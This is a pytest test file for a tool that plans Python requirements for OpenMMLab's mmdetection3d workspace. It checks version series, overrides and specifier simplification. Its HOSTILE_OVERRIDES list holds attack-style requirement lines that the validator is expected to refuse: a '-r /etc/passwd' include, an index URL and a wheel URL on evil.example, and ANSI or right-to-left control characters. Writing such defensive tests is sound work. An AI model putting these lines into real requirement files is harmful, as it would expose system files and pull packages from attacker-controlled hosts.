"""`inv python-env`'s requirements, derived from the workspace alone: the sub-projects' bounds,
their runtime.txt, OpenMMLab's 1.x/2.x series rule and the team's overrides file (hostile
lines refused with one error and hint)."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from packaging.requirements import Requirement
from packaging.specifiers import SpecifierSet

from mmlab_bootstrap.pythonenv.plan import (
    OVERRIDES_FILE,
    SERIES,
    PythonEnvError,
    plan_requirements,
    read_overrides,
    tightest,
)

from .lib.fakepython import (
    MMDET3D_INIT,
    MMDET3D_MMINSTALL,
    write,
)
from .lib.wheelfixture import rc4_workspace

REAL = Path("/work/real/gh/open-mmlab")
RECORDED_MMDET3D = "9556958fe1c6fe432d55a9f98781b8fdd90f4e9c"  # 1.0.0rc4
RECORDED_MMCV = "3b9b9054bf4b5195d57bf6dfc6a60860b0a3cec1"  # 1.6.1


def by_name(extension: Path, overrides: Path) -> dict[str, str]:
    found = plan_requirements(extension, "mmdetection3d", overrides)
    return {line.name: line.requirement for line in found.lines}


def accepts(requirement: str, version: str) -> bool:
    return Requirement(requirement).specifier.contains(version, prereleases=True)


def test_rc4_is_openmmlab_1x(tmp_path: Path) -> None:
    """mmcv 1.6.1 checked out: mmcv-full within both sources' bounds, mmdet below 3 although
    mmdet3d rc4 itself accepts 3.0.0 (which needs mmcv 2.x), no mmcv, no mmengine."""
    lines = by_name(rc4_workspace(tmp_path / "ext"), tmp_path / OVERRIDES_FILE)
    assert "mmcv" not in lines and "mmengine" not in lines
    assert accepts(lines["mmcv-full"], "1.6.0") and not accepts(lines["mmcv-full"], "1.6.1")
    assert not accepts(lines["mmcv-full"], "1.5.1")
    assert accepts(lines["mmdet"], "2.28.2") and not accepts(lines["mmdet"], "3.0.0")
    assert not accepts(lines["mmsegmentation"], "1.0.0")
    assert Requirement(lines["mmdet"]).extras == {"mim"}  # what mim would add, the resolver sees
    assert Requirement(lines["mmsegmentation"]).extras == {"mim"}
    assert lines["numba"] == "numba==0.53.0"
    assert {"torch", "setuptools", "wheel"} <= set(lines)
    assert "mmdet3d" not in lines  # the checkout itself: installed editable


def test_the_series_follows_the_mmcv_checkout(tmp_path: Path) -> None:
    """mmcv 2.x checked out with mmdetection3d 1.4: mmcv and mmengine, no mmcv-full."""
    extension = tmp_path / "ext"
    write(extension / "mmdetection3d" / "mmdet3d" / "__init__.py", MMDET3D_INIT)
    write(extension / "mmdetection3d" / "mmdet3d" / "version.py", "__version__ = '1.4.0'\n")
    write(extension / "mmdetection3d" / "requirements" / "mminstall.txt", MMDET3D_MMINSTALL)
    write(extension / "mmcv" / "mmcv" / "version.py", "__version__ = '2.2.0'\n")
    lines = by_name(extension, tmp_path / OVERRIDES_FILE)
    assert "mmcv-full" not in lines and "mmengine" in lines
    assert accepts(lines["mmcv"], "2.1.0") and not accepts(lines["mmcv"], "2.2.0")
    assert accepts(lines["mmdet"], "3.2.0") and not accepts(lines["mmdet"], "2.28.2")


def test_a_checkout_of_the_other_series_is_refused(tmp_path: Path) -> None:
    """mmdetection3d rc4 beside an mmcv 2.x checkout: no environment holds both."""
    extension = rc4_workspace(tmp_path / "ext", mmcv="2.1.0")
    with pytest.raises(PythonEnvError) as raised:
        plan_requirements(extension, "mmdetection3d", tmp_path / OVERRIDES_FILE)
    assert "1.0.0rc4" in raised.value.message and "2.x" in raised.value.message
    assert "inv clone" in raised.value.hint


def test_an_override_replaces_the_pin_with_its_reason(tmp_path: Path) -> None:
    """numba==0.53.0 (wheels for CPython <= 3.9 only) loosened by the team's file; the
    requirement line stays, uv's override replaces it."""
    overrides = write(
        tmp_path / OVERRIDES_FILE,
        "# the team's overrides\n\nnumba>=0.56  # 0.53.0 has no wheel for cp310+\n",
    )
    found = plan_requirements(rc4_workspace(tmp_path / "ext"), "mmdetection3d", overrides)
    assert found.overrides_text() == "numba>=0.56  # 0.53.0 has no wheel for cp310+\n"
    assert str(found.specifier("numba")) == ">=0.56"
    assert found.editables == (tmp_path / "ext" / "mmdetection3d",)


def test_contradicting_sources_ask_for_an_override(tmp_path: Path) -> None:
    extension = rc4_workspace(tmp_path / "ext")
    write(extension / "mmdetection3d" / "requirements" / "runtime.txt", "networkx>=3\n")
    write(extension / "mmdetection3d" / "requirements" / "mminstall.txt", "networkx<2.3\n")
    with pytest.raises(PythonEnvError) as raised:
        plan_requirements(extension, "mmdetection3d", tmp_path / OVERRIDES_FILE)
    assert "no version of networkx" in raised.value.message
    assert OVERRIDES_FILE in raised.value.hint
    write(tmp_path / OVERRIDES_FILE, "networkx>=3  # the code runs with 3.x\n")
    plan_requirements(extension, "mmdetection3d", tmp_path / OVERRIDES_FILE)


def test_a_project_that_does_not_train_is_refused(tmp_path: Path) -> None:
    extension = rc4_workspace(tmp_path / "ext")
    for project in ("mmdeploy", "../mmdetection3d", "mmdetection"):
        with pytest.raises(PythonEnvError) as raised:
            plan_requirements(extension, project, tmp_path / OVERRIDES_FILE)
        assert "inv" in raised.value.hint


HOSTILE_OVERRIDES = [
    ("numba>=0.56\n", "gives no reason"),
    ("numba>=0.56  #   \n", "gives no reason"),
    ("-r /etc/passwd  # why\n", "is an option"),
    ("--index-url http://evil.example/  # faster\n", "is an option"),
    ("-e ../evil  # local\n", "is an option"),
    ("numba @ https://evil.example/numba.whl  # a fork\n", "names a URL"),
    ("numba>=>0.56  # typo\n", "is not a requirement"),
    ("numba>=0.56; os_name ==  # broken marker\n", "is not a requirement"),
    ("numba>=0.56  # one\nNumba<1  # two\n", "a second time"),
    ("mmcv>=2  # wrong series\n", "must not hold"),
    ("mmengine  # wrong series\n", "must not hold"),
    ("numba>=0.56  # \x1b[31mred\n", "control characters"),
    ("numba>=0.56  # \u202egnp.exe\n", "control characters"),
    ("numba>=0.56  # " + "x" * 500 + "\n", "longer than"),
]


@pytest.mark.parametrize(("text", "said"), HOSTILE_OVERRIDES)
def test_hostile_override_lines(tmp_path: Path, text: str, said: str) -> None:
    path = write(tmp_path / OVERRIDES_FILE, text)
    with pytest.raises(PythonEnvError) as raised:
        read_overrides(path, SERIES[1])
    assert said in raised.value.message and f"{path}:" in raised.value.message
    assert "\n" not in raised.value.message and "\x1b" not in raised.value.message
    assert raised.value.hint


def test_hostile_override_files(tmp_path: Path) -> None:
    """Not a regular file, too large, not UTF-8: refused before anything is planned."""
    fifo = tmp_path / "fifo" / OVERRIDES_FILE
    fifo.parent.mkdir()
    os.mkfifo(fifo)
    folder = tmp_path / "folder" / OVERRIDES_FILE
    folder.mkdir(parents=True)
    large = write(tmp_path / "large" / OVERRIDES_FILE, "# x\n" * 20000)
    binary = tmp_path / "binary" / OVERRIDES_FILE
    binary.parent.mkdir()
    binary.write_bytes(b"numba>=0.56  # \xff\xfe\n")
    for path in (fifo, folder, large, binary):
        with pytest.raises(PythonEnvError if path == binary else Exception) as raised:
            read_overrides(path, SERIES[1])
        assert getattr(raised.value, "hint", "")
    assert read_overrides(tmp_path / "absent.txt", SERIES[1]) == ()


def _archive(repo: Path, commit: str, paths: list[str], into: Path) -> None:
    into.mkdir(parents=True)
    archive = subprocess.run(
        ["git", "-C", str(repo), "archive", commit, *paths], capture_output=True, check=True
    ).stdout
    subprocess.run(["tar", "x"], input=archive, cwd=into, check=True)


@pytest.mark.skipif(
    not (REAL / "mmdetection3d.git").is_dir() or not (REAL / "mmcv.git").is_dir(),
    reason="no mirror of the real repositories here",
)
def test_the_real_recorded_workspace(tmp_path: Path) -> None:
    """The real mmdetection3d 1.0.0rc4 and mmcv 1.6.1 the superproject records."""
    extension = tmp_path / "ext"
    _archive(
        REAL / "mmdetection3d.git",
        RECORDED_MMDET3D,
        ["mmdet3d/__init__.py", "mmdet3d/version.py", "requirements", "setup.py"],
        extension / "mmdetection3d",
    )
    _archive(REAL / "mmcv.git", RECORDED_MMCV, ["mmcv/version.py"], extension / "mmcv")
    found = plan_requirements(extension, "mmdetection3d", tmp_path / OVERRIDES_FILE)
    lines = {line.name: line.requirement for line in found.lines}
    assert found.series.mmcv == "mmcv-full"
    assert accepts(lines["mmcv-full"], "1.6.0") and not accepts(lines["mmcv-full"], "1.7.0")
    assert not accepts(lines["mmdet"], "3.0.0") and accepts(lines["mmdet"], "2.28.2")
    assert lines["numba"] == "numba==0.53.0"
    assert "mmengine" not in lines and "mmcv" not in lines


BOUND_VERSIONS = st.sampled_from(["0.9", "1.0", "1.0.0rc1", "1.5.2", "1.6", "1.6.0", "2", "2.0.1"])


@given(
    st.lists(st.tuples(st.sampled_from(["<", "<=", ">", ">=", "!="]), BOUND_VERSIONS), max_size=6),
    st.lists(BOUND_VERSIONS, min_size=1, max_size=5),
)
@example(bounds=[("<", "1.0"), ("<=", "1.0.0rc1")], versions=["1.0.0rc1"])  # PEP 440: <1.0
@example(bounds=[(">", "1.0"), (">=", "1.0.post1")], versions=["1.0.post1"])  # refuses these
def test_tightest_keeps_exactly_the_same_versions(
    bounds: list[tuple[str, str]], versions: list[str]
) -> None:
    """The bounds written shorter accept exactly what all of them accept."""
    specifier = SpecifierSet(",".join(op + version for op, version in bounds))
    shorter = tightest(specifier)
    assert len(shorter) <= len(specifier)
    for version in versions:
        assert shorter.contains(version, prereleases=True) == specifier.contains(
            version, prereleases=True
        )


def test_without_an_mmcv_checkout_the_range_decides(tmp_path: Path) -> None:
    extension = rc4_workspace(tmp_path / "ext")
    (extension / "mmcv" / "mmcv" / "version.py").unlink()
    found = plan_requirements(extension, "mmdetection3d", tmp_path / OVERRIDES_FILE)
    assert found.series.major == 1 and found.series_reason == "mmcv is bounded by 1.6.0"
    write(extension / "mmdetection3d" / "mmdet3d" / "__init__.py", "")
    write(extension / "mmdetection3d" / "requirements" / "mminstall.txt", "mmdet\n")
    with pytest.raises(PythonEnvError) as raised:
        plan_requirements(extension, "mmdetection3d", tmp_path / OVERRIDES_FILE)
    assert "1.x from 2.x" in raised.value.message and "inv clone" in raised.value.hint
